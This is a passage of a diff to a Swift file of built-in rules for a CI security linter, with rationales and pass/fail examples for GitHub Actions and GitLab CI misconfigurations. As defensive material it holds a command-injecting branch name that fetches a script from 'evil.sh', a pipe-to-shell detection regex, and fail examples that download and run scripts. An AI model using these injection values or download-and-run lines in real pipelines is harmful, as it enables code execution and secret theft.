+        """ expect "the workflow sets ACTIONS_ALLOW_UNSECURE_COMMANDS to 'true' for every job" expect "job 'build' sets" expect "a step sets ACTIONS_ALLOW_UNSECURE_COMMANDS to 'TRUE'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/overprovisioned_secrets.plumb",
+      text: #"""
+      rule overprovisioned_secrets {
+        title "Steps receive single secrets, not the whole secrets context"
+        severity medium
+        category security
+        tags [github-actions, secrets, least-privilege]
+        rationale """
+          `${{ toJSON(secrets) }}` or `secrets[format(…)]` makes the runner fetch every secret
+          available to the repository (organisation and environment secrets included) and puts them in
+          the step's process, its environment or its files. Anything that runs there (a dependency, a
+          compromised action, a crash dump, an uploaded artifact) then leaks all of them, not the one
+          the step needed; log masking does not apply to values re-encoded from JSON.
+        """
+        remediation "Reference each secret the step needs by name: `env: API_TOKEN: ${{ secrets.API_TOKEN }}`."
+
+        for s in github.step
+        let broad = filter(e in s.expressions, any(c in e.contexts, c == "secrets" or c == "secrets[*]" or c == "secrets.*"))
+        require count(broad) == 0
+          else "'${first(broad).text}' in ${first(broad).field} exposes every secret of the repository to the step" at first(broad)
+
+        example pass """
+          on: push
+          jobs:
+            deploy:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: ./deploy.sh
+                  env:
+                    API_TOKEN: ${{ secrets.API_TOKEN }}
+                    CONFIG: ${{ toJSON(secrets.DEPLOY_CONFIG) }}
+        """
+        example fail """
+          on: push
+          jobs:
+            deploy:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: ./deploy.sh
+                  env:
+                    ALL_SECRETS: ↓${{ toJSON(secrets) }}
+                - run: ./other.sh
+                  env:
+                    TOKEN: ↓${{ secrets[format('{0}_TOKEN', matrix.env)] }}
+        """ expect "'toJSON(secrets)' in env.ALL_SECRETS exposes every secret of the repository to the step" expect "in env.TOKEN"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/reusable_workflow_pinned_to_sha.plumb",
+      text: #"""
+      rule reusable_workflow_pinned_to_sha {
+        title "Reusable workflows from other repositories are pinned to a full commit SHA"
+        severity high
+        category security
+        tags [github-actions, supply-chain]
+        rationale """
+          A job that calls `owner/repo/.github/workflows/x.yml@main` (or `@v1`) runs whatever that
+          branch or tag points to when the workflow starts, with the secrets and token permissions the
+          caller passes: whoever can push there (or move the tag) runs code in your pipeline. A full
+          40-character commit SHA cannot be moved. Workflows of the same repository (`./…`) and owners
+          listed in `trusted_owners` are not reported.
+        """
+        remediation "Pin the call to the commit you reviewed, with the tag in a comment: `uses: owner/repo/.github/workflows/x.yml@<sha> # v1.2.3`."
+        param trusted_owners: list<string> = []
+
+        for j in github.job("reusable")
+        when j.uses_ref.kind == "repository" and not (lower(j.uses_ref.owner) in param.trusted_owners)
+        require j.uses_ref.ref_kind == "sha"
+          else "job '${j.id}' calls '${j.uses_ref.raw}', pinned to ${j.uses_ref.ref_kind} '${default(j.uses_ref.ref, "")}', not a full commit SHA" at j.uses
+
+        example pass """
+          on: push
+          jobs:
+            lint:
+              uses: ./.github/workflows/lint.yml
+            publish:
+              uses: acme/workflows/.github/workflows/publish.yml@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3 # v2.1.0
+        """
+        example fail """
+          on: push
+          jobs:
+            publish:
+              uses: ↓acme/workflows/.github/workflows/publish.yml@main
+        """ expect "job 'publish' calls 'acme/workflows/.github/workflows/publish.yml@main', pinned to branch-or-tag 'main', not a full commit SHA"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/reusable_workflow_secrets_inherit.plumb",
+      text: #"""
+      rule reusable_workflow_secrets_inherit {
+        title "Reusable workflows receive only the secrets they need"
+        severity medium
+        category security
+        tags [github-actions, secrets, least-privilege]
+        rationale """
+          `secrets: inherit` hands every secret of the calling repository (and organisation) to the
+          called workflow, whatever it needs. If that workflow, one of its actions, or the code it
+          builds is compromised, or if it is later changed to run untrusted code, every secret leaks,
+          not only the one it uses; and nobody reviewing the caller can tell which secrets are exposed.
+        """
+        remediation "List the secrets the called workflow declares: `secrets: {NPM_TOKEN: ${{ secrets.NPM_TOKEN }}}` instead of `secrets: inherit`."
+
+        for j in github.job("reusable")
+        require not j.secrets_inherit
+          else "job '${j.id}' passes every secret to '${j.uses_ref.raw}' with 'secrets: inherit'" at j.secrets
+
+        example pass """
+          on: push
+          jobs:
+            publish:
+              uses: acme/workflows/.github/workflows/publish.yml@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3
+              secrets:
+                NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
+        """
+        example fail """
+          on: push
+          jobs:
+            publish:
+              uses: acme/workflows/.github/workflows/publish.yml@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3
+              secrets: ↓inherit
+        """ expect "job 'publish' passes every secret to 'acme/workflows/.github/workflows/publish.yml@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3' with 'secrets: inherit'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/run_download_piped_to_shell.plumb",
+      text: #"""
+      rule run_download_piped_to_shell {
+        title "Run scripts do not execute scripts downloaded at run time"
+        severity medium
+        category security
+        tags [github-actions, supply-chain]
+        rationale """
+          `curl … | sh`, `bash <(wget …)` or `iex (iwr …)` run whatever the server returns at that
+          moment, with the job's token and secrets and without any check: a compromised download site,
+          CDN or DNS entry, or a changed install script, runs its code in your pipeline, and nothing in
+          the repository records which code ran. URLs pinned to a commit on raw.githubusercontent.com are
+          not reported.
+        """
+        remediation "Download to a file, verify its SHA-256 (`echo \"<sha256>  install.sh\" | sha256sum -c -`), then run it; better, use a pinned action or a package with a lockfile."
+        param pipe_to_shell: string = "(?i)(\\b(curl|wget)\\b[^|;&]*\\|\\s*(sudo\\s+(-\\S+\\s+)*)?((ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node)\\b|\\b(ba|z)?sh\\s+(-\\S+\\s+)*<\\(\\s*(curl|wget)\\b|\\b(ba|z)?sh\\s+-c\\s+[\"']?\\$\\(\\s*(curl|wget)\\b|\\b(iex|invoke-expression)\\b.*\\b(downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\\b|\\b(iwr|irm|invoke-webrequest|invoke-restmethod)\\b[^|]*\\|\\s*(iex|invoke-expression)\\b)"
+
+        for s in github.step("run")
+        let lines = filter(l in split(to_string(s.run), "\n"),
+          l matches param.pipe_to_shell and not (l matches "raw\\.githubusercontent\\.com/[^/\\s]+/[^/\\s]+/[0-9a-f]{40}/"))
+        require count(lines) == 0
+          else "step '${name(s)}' in job '${s.job}' runs a downloaded script without verifying it: '${trim(first(lines))}'" at s.run
+
+        example pass """
+          on: push
+          jobs:
+            setup:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: |
+                    curl -fsSLo install.sh https://example.com/install.sh
+                    echo "4f2c9e1d8b7a6c5e4d3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d  install.sh" | sha256sum -c -
+                    sh install.sh
+                    curl -fsSL https://raw.githubusercontent.com/acme/tools/0123456789abcdef0123456789abcdef01234567/setup.sh | bash
+                    curl -s https://api.example.com/status | jq .
+        """
+        example fail """
+          on: push
+          jobs:
+            setup:
+              runs-on: ubuntu-24.04
+              steps:
+                - name: install uv
+                  run: ↓curl -LsSf https://astral.sh/uv/install.sh | sh
+                - run: ↓|
+                    set -e
+                    bash <(wget -qO- https://example.com/bootstrap.sh)
+        """ expect "step 'install uv' in job 'setup' runs a downloaded script without verifying it: 'curl -LsSf https://astral.sh/uv/install.sh | sh'" expect "'bash <(wget -qO- https://example.com/bootstrap.sh)'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/self_hosted_runner_on_public_trigger.plumb",
+      text: #"""
+      rule self_hosted_runner_on_public_trigger {
+        title "Pull request workflows do not run on self-hosted runners"
+        severity high
+        category security
+        tags [github-actions, runners]
+        rationale """
+          In a public repository anyone can open a pull request (or comment on one) and so start jobs
+          of workflows triggered by `pull_request`, `pull_request_target`, reviews or comments. On a
+          self-hosted runner that job runs the fork's code (or code it can influence) on your machine,
+          which is not wiped between jobs: the attacker can persist on the runner, read the secrets and
+          tokens of later jobs, and reach your internal network.
+        """
+        remediation """
+          Run these workflows on GitHub-hosted runners; or use ephemeral, isolated self-hosted runners
+          (just-in-time runners, a fresh VM per job) and require approval for fork pull requests. List
+          such runners' labels in `allowed_labels`.
+        """
+        param triggers: list<string> = ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment", "issue_comment"]
+        # Labels of your own self-hosted runners that do not carry the `self-hosted` label (lower case).
+        param self_hosted_labels: list<string> = []
+        # Labels of ephemeral, isolated runners that may serve public triggers (lower case).
+        param allowed_labels: list<string> = []
+
+        for j in github.job("steps")
+        let wf = first(j -> inWorkflow)
+        let public = filter(t in default(wf.triggers, []), t in param.triggers)
+        when count(public) > 0
+        let self_hosted = j.self_hosted or any(l in j.runner_labels, lower(l) in param.self_hosted_labels)
+        require not self_hosted or any(l in j.runner_labels, lower(l) in param.allowed_labels)
+          else "job '${j.id}' runs on self-hosted runner ${j.runner_labels} in a workflow triggered by ${join(public, ", ")}" at j["runs-on"]
+
+        example pass """
+          on: pull_request
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: make test
+            on-push-only:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: make
+        """
+        example pass "self-hosted on push" """
+          on: push
+          jobs:
+            build:
+              runs-on: [self-hosted, linux, x64]
+              steps:
+                - run: make
+        """
+        example fail """
+          on:
+            pull_request:
+            issue_comment:
+          jobs:
+            test:
+              runs-on: ↓[self-hosted, linux, gpu]
+              steps:
+                - run: make test
+        """ expect "job 'test' runs on self-hosted runner [\"self-hosted\", \"linux\", \"gpu\"] in a workflow triggered by pull_request, issue_comment"
       }
 
       """#),
@@ -371,22 +1280,46 @@ extension BuiltinPolicies {
       path: "rules/security/github/template_injection.plumb",
       text: #"""
       rule template_injection {
-        title "Untrusted input is not expanded into run scripts"
+        title "Untrusted input is not expanded into run scripts or script inputs"
         severity critical
         category security
         tags [github-actions, injection]
         rationale """
-          `${{ … }}` is expanded into the script text before the shell runs it. When the value comes
-          from an attacker (a pull request title, an issue body, a branch name), the attacker writes
-          shell code into your job, with its token and secrets.
+          `${{ … }}` is expanded into the script text before the shell (or the JavaScript of
+          `actions/github-script`) runs it. When the value comes from an attacker (a pull request title,
+          an issue or comment body, a fork's branch name, a commit message), the attacker writes code into
+          your job, with its token and secrets: a branch named `a";curl${IFS}evil.sh|sh;"` is enough.
+          Dumping a whole event (`toJSON(github.event)`) into a script is the same.
         """
-        remediation "Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `\"$TITLE\"` in the script."
-        param untrusted: string = "^github\\.(event\\.(issue|pull_request|comment|review|review_comment|pages|commits|head_commit|workflow_run)\\b.*\\b(title|body|name|label|ref|message|email|head_branch|default_branch|page_name)|head_ref)"
+        remediation """
+          Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`)
+          and use `"$TITLE"` in the script (`process.env.TITLE` in `actions/github-script`).
+        """
+        # Contexts an outsider can fill with arbitrary text: the GitHub Security Lab / actionlint list
+        # of untrusted inputs, and whole event objects that contain them.
+        param untrusted: string = "^github\\.(head_ref$|event\\.((issue|pull_request|discussion)\\.(title|body)|(comment|review|review_comment)\\.body|pull_request\\.head\\.(ref|label|repo\\.default_branch)|pages(\\[\\*\\]|\\.\\*|\\[[0-9]+\\])\\.page_name|(commits(\\[\\*\\]|\\.\\*|\\[[0-9]+\\])|head_commit|workflow_run\\.head_commit)\\.(message|author\\.(email|name)|committer\\.(email|name))|workflow_run\\.(head_branch|display_title|pull_requests(\\[\\*\\]|\\.\\*|\\[[0-9]+\\])\\.head\\.ref))$)|^github(\\.event(\\.(issue|pull_request|discussion|comment|review|review_comment|head_commit|commits|pages|workflow_run|\\*(\\.(title|body))?))?)?$"
+        # Actions whose input is run as code ("owner/repo:input", lower case), after CodeQL's sink models.
+        param code_inputs: list<string> = [
+          "actions/github-script:script", "amadevus/pwsh-script:script",
+          "jannekem/run-python-script-action:script", "cardinalby/js-eval-action:expression",
+          "azure/cli:inlinescript", "azure/powershell:inlinescript", "mikefarah/yq:cmd",
+          "addnab/docker-run-action:run", "appleboy/ssh-action:script"
+        ]
+
+        # Expressions whose value is a boolean (a comparison, `contains(…)`) cannot carry text.
+        param boolean_valued: string = "(?i)^\\s*!?\\s*(startswith|endswith|contains)\\([^&|]*\\)\\s*$|^[^'&|]*(==|!=|<|>)[^&|]*$"
 
         for s in github.step
-        let risky = filter(e in s.expressions, e.field == "run" and any(c in e.contexts, c matches param.untrusted))
-        require count(risky) == 0
-          else "'${first(risky).text}' is expanded into a run script; an attacker controls its value" at first(risky)
+        let risky_run = filter(e in s.expressions, e.field == "run" and not (e.text matches param.boolean_valued)
+          and any(c in e.contexts, c matches param.untrusted))
+        let action = lower(default(s.uses_ref.owner, "") + "/" + default(s.uses_ref.repo, ""))
+        let risky_input = filter(e in s.expressions,
+          starts_with(e.field, "with.") and (action + ":" + lower(replace(e.field, "with.", ""))) in param.code_inputs
+          and not (e.text matches param.boolean_valued) and any(c in e.contexts, c matches param.untrusted))
+        require count(risky_run) == 0
+          else "'${first(risky_run).text}' is expanded into a run script; an attacker controls its value" at first(risky_run)
+        require count(risky_input) == 0
+          else "'${first(risky_input).text}' is expanded into the '${replace(first(risky_input).field, "with.", "")}' input of ${s.uses_ref.owner}/${s.uses_ref.repo}, which runs it as code; an attacker controls its value" at first(risky_input)
 
         example pass """
           on: pull_request_target
@@ -397,9 +1330,15 @@ extension BuiltinPolicies {
                 - env:
                     TITLE: ${{ github.event.pull_request.title }}
                   run: echo "$TITLE"
-                - run: echo "${{ github.sha }}"
+                - run: echo "${{ github.sha }} ${{ github.event.pull_request.number }} ${{ github.event.pull_request.base.ref }}"
+                - run: echo "${{ contains(github.event.pull_request.title, '[skip]') }} ${{ github.event.issue.title == 'x' }}"
+                - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
+                  env:
+                    BODY: ${{ github.event.comment.body }}
+                  with:
+                    script: console.log(process.env.BODY)
         """
-        example fail """
+        example fail "run script" """
           on: pull_request_target
           jobs:
             greet:
@@ -408,7 +1347,302 @@ extension BuiltinPolicies {
                 - run: |
                     echo "checking"
                     echo "↓${{ github.event.pull_request.title }}"
-        """ expect "'github.event.pull_request.title' is expanded into a run script"
+                - run: echo '↓${{ toJSON(github.event) }}' | jq .
+                - run: git push origin "↓${{ github.head_ref }}"
+                - run: echo '↓${{ toJSON(github.event.*.body) }}'
+
+        """ expect "'github.event.pull_request.title' is expanded into a run script" expect "'toJSON(github.event)' is expanded"
+        example fail "github-script" """
+          on: issue_comment
+          jobs:
+            triage:
+              runs-on: ubuntu-24.04
+              steps:
+                - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
+                  with:
+                    script: |
+                      const body = "↓${{ github.event.comment.body }}"
+        """ expect "into the 'script' input of actions/github-script, which runs it as code"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/token_permissions_undeclared.plumb",
+      text: #"""
+      rule token_permissions_undeclared {
+        title "Jobs declare their token permissions"
+        severity medium
+        category security
+        tags [github-actions, least-privilege]
+        rationale """
+          A job with no `permissions` in the job or the workflow gets the repository's default
+          GITHUB_TOKEN permissions: read-write on every scope in repositories created before February
+          2023 and in many organisations, so any step (or a compromised action) can push code or
+          publish releases. What the job gets then changes with a setting nobody reviews with the
+          workflow. Jobs of a workflow that is only `workflow_call`ed take their caller's permissions and
+          are not reported; jobs that call a reusable workflow are, since the caller decides.
+        """
+        remediation "Add `permissions: {contents: read}` at the top of the workflow (or `permissions: {}`), and grant write scopes on the jobs that need them."
+
+        for j in github.job
+        let workflow = first(j -> inWorkflow)
+        let reusable_only = workflow.triggers == ["workflow_call"]
+        when not (reusable_only and type(j) == "steps")
+        require j.permissions_kind != "missing" or workflow.permissions_kind != "missing"
+          else "job '${j.id}' runs with the repository's default token permissions: neither the job nor the workflow sets 'permissions'" at j.id
+
+        example pass """
+          on: pull_request
+          permissions:
+            contents: read
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: make test
+        """
+        example pass "job-level permissions; a reusable-only workflow's steps job" {
+          file ".github/workflows/ci.yml" """
+            on: push
+            jobs:
+              test:
+                runs-on: ubuntu-24.04
+                permissions:
+                  contents: read
+                steps:
+                  - run: make test
+          """
+          file ".github/workflows/lib.yml" """
+            on: workflow_call
+            jobs:
+              lint:
+                runs-on: ubuntu-24.04
+                steps:
+                  - run: make lint
+          """
+        }
+        example fail """
+          on: pull_request
+          jobs:
+            ↓test:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: make test
+            ↓deploy:
+              uses: ./.github/workflows/deploy.yml
+        """ expect "job 'test' runs with the repository's default token permissions" expect "job 'deploy'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/unsound_if_condition.plumb",
+      text: #"""
+      rule unsound_if_condition {
+        title "if: conditions are a single expression, not text around one"
+        severity high
+        category security
+        tags [github-actions, conditions]
+        rationale """
+          GitHub evaluates `if:` as an expression only when the whole value is one `${{ … }}`. Anything
+          else around it (text, `&&` outside the braces, a space, or the newline a `|` or `>` block adds
+          at the end) turns the value into a non-empty string, which is always true: the gate meant to
+          keep a deploy, release or secret-using step away from forks silently lets everything through.
+        """
+        remediation "Write the condition as one expression: `if: ${{ a && b }}` or without braces `if: a && b`; for block scalars use `|-` or `>-`, which drop the final newline."
+        param unsound: string = "(?s)^(?=.*\\$\\{\\{)(?!\\$\\{\\{((?!\\}\\}).)*\\}\\}\\z)"
+
+        for j in github.job
+        let step_ifs = filter(i in map(i, st in default(j.steps, []), i), to_string(default(j.steps[i]["if"], "")) matches param.unsound)
+        require not (to_string(default(j["if"], "")) matches param.unsound)
+          else "the condition of job '${j.id}' is always true: '${replace(to_string(j["if"]), "\n", "\\n")}' is text around an expression" at j["if"]
+        require count(step_ifs) == 0
+          else "the condition of step ${first(step_ifs) + 1} in job '${j.id}' is always true: '${replace(to_string(j.steps[first(step_ifs)]["if"]), "\n", "\\n")}' is text around an expression (${count(step_ifs)} such step(s) in the job)" at j.steps[first(step_ifs)]["if"]
+
+        example pass """
+          on: push
+          jobs:
+            deploy:
+              if: ${{ github.ref == 'refs/heads/main' && github.event_name == 'push' }}
+              runs-on: ubuntu-24.04
+              steps:
+                - if: github.event_name == 'push'
+                  run: ./deploy.sh
+                - if: |-
+                    ${{ success() }}
+                  run: ./notify.sh
+        """
+        example fail """
+          on: push
+          jobs:
+            deploy:
+              if: ↓|
+                ${{ github.ref == 'refs/heads/main' }}
+              runs-on: ubuntu-24.04
+              steps:
+                - if: ↓${{ github.event_name == 'push' }} && ${{ github.ref == 'refs/heads/main' }}
+                  run: ./deploy.sh
+        """ expect "the condition of job 'deploy' is always true: '${{ github.ref == 'refs/heads/main' }}\\n' is text around an expression" expect "the condition of step 1 in job 'deploy' is always true"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/untrusted_checkout_in_privileged_workflow.plumb",
+      text: #"""
+      rule untrusted_checkout_in_privileged_workflow {
+        title "Privileged workflows do not check out pull request code"
+        severity high
+        category security
+        tags [github-actions, pwn-request, injection]
+        rationale """
+          `pull_request_target`, `workflow_run` and `issue_comment` workflows run in the context of the
+          base repository, with secrets and a token that can write, even when a fork's pull request
+          triggered them. Checking out the pull request's head (`ref: ${{ github.event.pull_request.head.sha }}`,
+          `github.head_ref`, `workflow_run.head_sha`, `refs/pull/N/head`, `gh pr checkout`) and then
+          building, testing or even running `npm install` on it executes the attacker's code with
+          those secrets: the "pwn request" behind many repository takeovers.
+        """
+        remediation """
+          Build untrusted code in a `pull_request` workflow (no secrets, read-only token) and pass
+          results to the privileged workflow as artifacts that are treated as data; or gate the job on
+          a maintainer-applied label and check out only the reviewed commit, without secrets in that job.
+        """
+        param triggers: list<string> = ["pull_request_target", "workflow_run", "issue_comment"]
+        param pr_ref: string = "(?i)(head[._](sha|ref|branch|label)|head_commit|merge_commit_sha|refs/pull/|pull/[^/ ]+/(head|merge))"
+
+        for s in github.step
+        let wf = first(s -> inJob -> inWorkflow)
+        let trigger = first(filter(t in default(wf.triggers, []), t in param.triggers))
+        when exists(trigger)
+        let checkout = lower(default(s.uses_ref.owner, "")) == "actions" and lower(default(s.uses_ref.repo, "")) == "checkout"
+        require not (checkout and to_string(default(s.with.ref, "")) matches param.pr_ref)
+          else "job '${s.job}' checks out '${s.with.ref}', the pull request's code, in a workflow triggered by ${trigger}" at s.with.ref
+        require not (checkout and to_string(default(s.with.repository, "")) matches "(?i)head\\.repo\\.(full_name|name)|head_repository\\.(full_name|name)")
+          else "job '${s.job}' checks out the fork '${s.with.repository}' in a workflow triggered by ${trigger}" at s.with.repository
+        require not (to_string(default(s.run, "")) matches "(?m)(\\bgh\\s+pr\\s+checkout\\b|\\bgit\\s+(fetch|pull)\\b.*(refs/)?pull/)")
+          else "job '${s.job}' fetches the pull request's code in a run script, in a workflow triggered by ${trigger}" at s.run
+
+        example pass """
+          on: pull_request_target
+          jobs:
+            label:
+              runs-on: ubuntu-24.04
+              steps:
+                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
+                  with:
+                    persist-credentials: false
+                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
+                  with:
+                    ref: ${{ github.event.pull_request.base.sha }}
+        """
+        example pass "a pull_request workflow may test the head" """
+          on: pull_request
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              steps:
+                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
+                  with:
+                    ref: ${{ github.event.pull_request.head.sha }}
+        """
+        example fail "pull_request_target" """
+          on: pull_request_target
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              steps:
+                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
+                  with:
+                    ref: ↓${{ github.event.pull_request.head.sha }}
+                    repository: ↓${{ github.event.pull_request.head.repo.full_name }}
+                - run: npm ci && npm test
+        """ expect "job 'test' checks out '${{ github.event.pull_request.head.sha }}', the pull request's code, in a workflow triggered by pull_request_target" expect "checks out the fork"
+        example fail "workflow_run and issue_comment" """
+          on:
+            workflow_run:
+              workflows: [ci]
+              types: [completed]
+            issue_comment:
+              types: [created]
+          jobs:
+            report:
+              runs-on: ubuntu-24.04
+              steps:
+                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
+                  with:
+                    ref: ↓${{ github.event.workflow_run.head_sha }}
+                - run: ↓|
+                    gh pr checkout ${{ github.event.issue.number }}
+                    make
+        """ expect "in a workflow triggered by workflow_run" expect "fetches the pull request's code in a run script"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/github/workflow_level_write_permissions.plumb",
+      text: #"""
+      rule workflow_level_write_permissions {
+        title "Write scopes are granted per job, not to the whole workflow"
+        severity medium
+        category security
+        tags [github-actions, least-privilege]
+        rationale """
+          Scopes in the workflow's top-level `permissions` go to every job that does not set its own.
+          `contents: write` or `id-token: write` granted there for the one job that releases also reaches
+          the lint and test jobs and every action they run: a compromised test dependency can then push
+          to the repository or mint an OIDC token for your cloud accounts. A workflow with a single job,
+          or whose jobs all set their own permissions, is not reported.
+        """
+        remediation "Set the top-level `permissions` to `{contents: read}` (or `{}`) and move each write scope to the job that needs it."
+
+        for w in github.workflow
+        let inheriting = filter(k in keys(w.jobs), not exists(w.jobs[k].permissions))
+        when w.permissions_kind == "scoped" and count(w.jobs) > 1 and count(inheriting) > 0
+        require count(w.write_scopes) == 0
+          else "the workflow grants write on '${join(w.write_scopes, "', '")}' to every job that sets no permissions of its own (${join(inheriting, ", ")})" at w.permissions[first(w.write_scopes)]
+
+        example pass """
+          on: push
+          permissions:
+            contents: read
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: make test
+            publish:
+              runs-on: ubuntu-24.04
+              permissions:
+                contents: read
+                id-token: write
+              steps:
+                - run: make publish
+        """
+        example pass "a single job" """
+          on: push
+          permissions:
+            contents: write
+          jobs:
+            release:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: make release
+        """
+        example fail """
+          on: push
+          permissions:
+            contents: read
+            id-token: ↓write
+            packages: write
+          jobs:
+            test:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: make test
+            publish:
+              runs-on: ubuntu-24.04
+              steps:
+                - run: make publish
+        """ expect "the workflow grants write on 'id-token', 'packages' to every job that sets no permissions of its own (test, publish)"
       }
 
       """#),
@@ -421,18 +1655,19 @@ extension BuiltinPolicies {
         category security
         tags [github-actions, least-privilege]
         rationale """
-          `permissions: write-all`, or no `permissions` at all (the repository default, often
-          read-write), lets every step push code, publish releases and change settings. A job should ask
-          for the scopes it uses, in the job or for the whole workflow.
+          `permissions: write-all` gives the job's GITHUB_TOKEN write access to every scope: any step
+          (or a compromised action) can push code, rewrite releases and tags, publish packages, approve
+          pull requests and mint OIDC tokens for your cloud accounts. A job should ask for the scopes it
+          uses. (Jobs with no `permissions` anywhere are reported by `token_permissions_undeclared`.)
         """
-        remediation "Add `permissions: {contents: read}` at the top of the workflow, and grant write scopes per job."
+        remediation "Replace `write-all` with the scopes the job needs, e.g. `permissions: {contents: read}` at the top of the workflow and `contents: write` on the one job that pushes."
 
         for j in github.job
         let workflow = first(j -> inWorkflow)
         require j.permissions_kind != "write-all"
           else "job '${j.id}' asks for a write-all token" at j.permissions
-        require j.permissions_kind != "missing" or workflow.permissions_kind not in ["missing", "write-all"]
-          else "job '${j.id}' runs with the workflow's token permissions (${workflow.permissions_kind})"
+        require j.permissions_kind != "missing" or workflow.permissions_kind != "write-all"
+          else "job '${j.id}' inherits the workflow's write-all token" at workflow.permissions
 
         example pass """
           on: push
@@ -443,16 +1678,22 @@ extension BuiltinPolicies {
               runs-on: ubuntu-24.04
               steps:
                 - run: make
+            release:
+              runs-on: ubuntu-24.04
+              permissions:
+                contents: write
+              steps:
+                - run: make release
         """
         example fail "inherits write-all" """
           on: push
-          permissions: write-all
+          permissions: ↓write-all
           jobs:
-            ↓build:
+            build:
               runs-on: ubuntu-24.04
               steps:
                 - run: make
-        """ expect "job 'build' runs with"
+        """ expect "job 'build' inherits the workflow's write-all token"
         example fail "asks for write-all" """
           on: push
           permissions: {}
@@ -467,42 +1708,2952 @@ extension BuiltinPolicies {
 
       """#),
     PolicySource(
+      path: "rules/security/gitlab/ci_debug_trace_enabled.plumb",
+      text: #"""
+      rule ci_debug_trace_enabled {
+        title "GitLab jobs do not enable debug tracing"
+        severity high
+        category security
+        tags [gitlab-ci, secrets]
+        rationale """
+          `CI_DEBUG_TRACE: "true"` makes the runner print every shell command with its expanded values
+          and the job's environment: every CI/CD variable, masked or not, deploy keys, cloud credentials
+          and the job token end up in the job log, which every developer (and, in public projects,
+          anyone) can read and which is kept as long as the job. (`CI_DEBUG_SERVICES`, which only adds
+          service containers' own logs, is not reported.)
+        """
+        remediation "Remove the variable from the file (the fix does; it changes nothing but the log); to debug a job, set `CI_DEBUG_TRACE` for one manual pipeline run and restrict who can read its log."
+
+        for j in gitlab.job
+        let pipeline = first(j -> inPipeline)
+        let job_on = filter(k in keys(default(j.variables, {})), k == "CI_DEBUG_TRACE"
+          and lower(trim(to_string(default(j.variables[k].value, j.variables[k])))) == "true")
+        let global_on = filter(k in keys(default(pipeline.variables, {})), k == "CI_DEBUG_TRACE"
+          and lower(trim(to_string(default(pipeline.variables[k].value, pipeline.variables[k])))) == "true")
+        require count(job_on) == 0
+          else "job '${j.name}' sets ${first(job_on)} to true: its log shows every variable, masked ones included" at default(j.variables[first(job_on)].value, j.variables[first(job_on)])
+          fix { remove j.variables["CI_DEBUG_TRACE"] }
+        require count(job_on) > 0 or count(global_on) == 0
+          else "job '${j.name}' runs with ${first(global_on)} set to true for the whole pipeline: its log shows every variable, masked ones included" at default(pipeline.variables[first(global_on)].value, pipeline.variables[first(global_on)])
+          fix { remove pipeline.variables["CI_DEBUG_TRACE"] }
+
+        example pass """
+          variables:
+            CI_DEBUG_TRACE: "false"
+            CI_DEBUG_SERVICES: "true"
+          build:
+            script: [make]
+        """
+        example fail "job" """
+          deploy:
+            variables:
+              CI_DEBUG_TRACE: ↓"true"
+            script: [./deploy.sh]
+        """ expect "job 'deploy' sets CI_DEBUG_TRACE to true"
+        example fail "global" """
+          variables:
+            CI_DEBUG_TRACE: ↓"TRUE"
+            CI_DEBUG_SERVICES: "true"
+          test:
+            script: [rake]
+        """ expect "job 'test' runs with CI_DEBUG_TRACE set to true for the whole pipeline"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/deploy_job_unrestricted.plumb",
+      text: #"""
+      rule deploy_job_unrestricted {
+        title "Production deploy jobs run only for the default branch, protected refs or tags"
+        severity medium
+        category security
+        tags [gitlab-ci, deployment]
+        rationale """
+          A deploy job without `rules:` (or `only:`) that limit it to the default branch, protected refs
+          or tags also runs in pipelines for feature branches and merge requests: code nobody reviewed
+          reaches production, with the production credentials the job holds, as soon as someone pushes a
+          branch. Reported: jobs whose environment is named like production (`production`, `prod`,
+          `live`), and jobs of a deploy-like stage without an environment. Rules with `when: never`
+          exclude and are not counted; every other rule must require the default branch, a protected ref
+          or a tag (`$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `$CI_COMMIT_REF_PROTECTED == "true"`,
+          `$CI_COMMIT_TAG`). Protected environments, which GitLab enforces outside the file, are a
+          second line of defence this rule cannot see.
+        """
+        remediation """
